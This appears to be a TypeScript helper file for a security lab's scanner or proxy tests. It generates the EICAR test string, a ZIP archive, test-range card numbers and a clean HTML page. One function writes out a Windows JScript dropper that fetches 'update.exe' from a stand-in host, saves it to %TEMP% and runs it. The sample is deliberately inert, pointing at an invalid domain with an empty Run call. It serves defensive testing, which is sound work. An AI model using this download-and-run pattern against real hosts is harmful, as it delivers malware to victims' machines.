// What the lab's scenarios send and fetch. Test content that scanners report is put together when it is asked
// for, so that no scanner takes an installed package, or a checkout, for an infection.

import { crc32, deflateRawSync } from 'node:zlib';

/** The EICAR test file, which every scanner reports and which does nothing. */
export function eicar(): Buffer {
  return Buffer.from(
    ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!$H+H*'].join(''),
  );
}

/** A ZIP archive with one deflated member. APPNOTE 4.3. */
export function zipWith(name: string, data: Buffer): Buffer {
  const nameBytes = Buffer.from(name);
  const packed = deflateRawSync(data);
  const facts = Buffer.alloc(26); // what a local and a central header have in common
  facts.writeUInt16LE(20, 0); // version needed to extract: 2.0
  facts.writeUInt16LE(8, 4); // deflate
  facts.writeUInt16LE(0x21, 8); // 1980-01-01
  facts.writeUInt32LE(crc32(data), 10);
  facts.writeUInt32LE(packed.length, 14);
  facts.writeUInt32LE(data.length, 18);
  facts.writeUInt16LE(nameBytes.length, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), facts, nameBytes, packed]);
  const central = Buffer.concat([
    Buffer.from('PK\x01\x02\x14\x00', 'latin1'),
    facts,
    Buffer.alloc(14), // no comment; the member begins at offset 0
    nameBytes,
  ]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}

/**
 * A Windows script in the manner of droppers: fetches a program, saves it and runs it. It does nothing
 * anywhere: the address is of a name that cannot exist (RFC 6761), and the last call names no file.
 */
export function dropperScript(): Buffer {
  const object = (...parts: string[]): string => `new ActiveXObject("${parts.join('.')}")`;
  return Buffer.from(
    [
      `var shell = ${object('WScript', 'Shell')};`,
      `var http = ${object('MSXML2', 'XMLHTTP')};`,
      `var file = ${object('ADODB', 'Stream')};`,
      'http.open("GET", "http://payload.invalid/update.exe", false);',
      'http.send();',
      'file.Open(); file.Type = 1; file.Write(http.responseBody);',
      ['file.Save', 'ToFile("%TEMP%\\\\update.exe", 2);'].join(''),
      ['shell.', 'Run("", 0);'].join(''),
      '',
    ].join('\n'),
  );
}

/** Customers with card numbers of the ranges that card schemes set aside for tests. */
export function customerList(): Buffer {
  const cards = ['4111 1111 1111 1111', '5555 5555 5555 4444', '3782 822463 10005', '4012 8888 8888 1881'];
  const rows = cards.map((card, index) => `${index + 1};Customer ${index + 1};${card};12/29`);
  return Buffer.from(['number;name;card;expires', ...rows, ''].join('\n'));
}

/** The page of the clean scenario; long enough not to fit into a preview. */
export function cleanPage(): Buffer {
  const paragraphs = Array.from(
    { length: 60 },
    (_, index) =>
      `<p>Paragraph ${index + 1}: the proxy has read this, found nothing, and changed no byte.</p>`,
  );
  return Buffer.from(
    ['<!doctype html>', '<title>A clean page</title>', '<h1>A clean page</h1>', ...paragraphs, ''].join('\n'),
  );
}
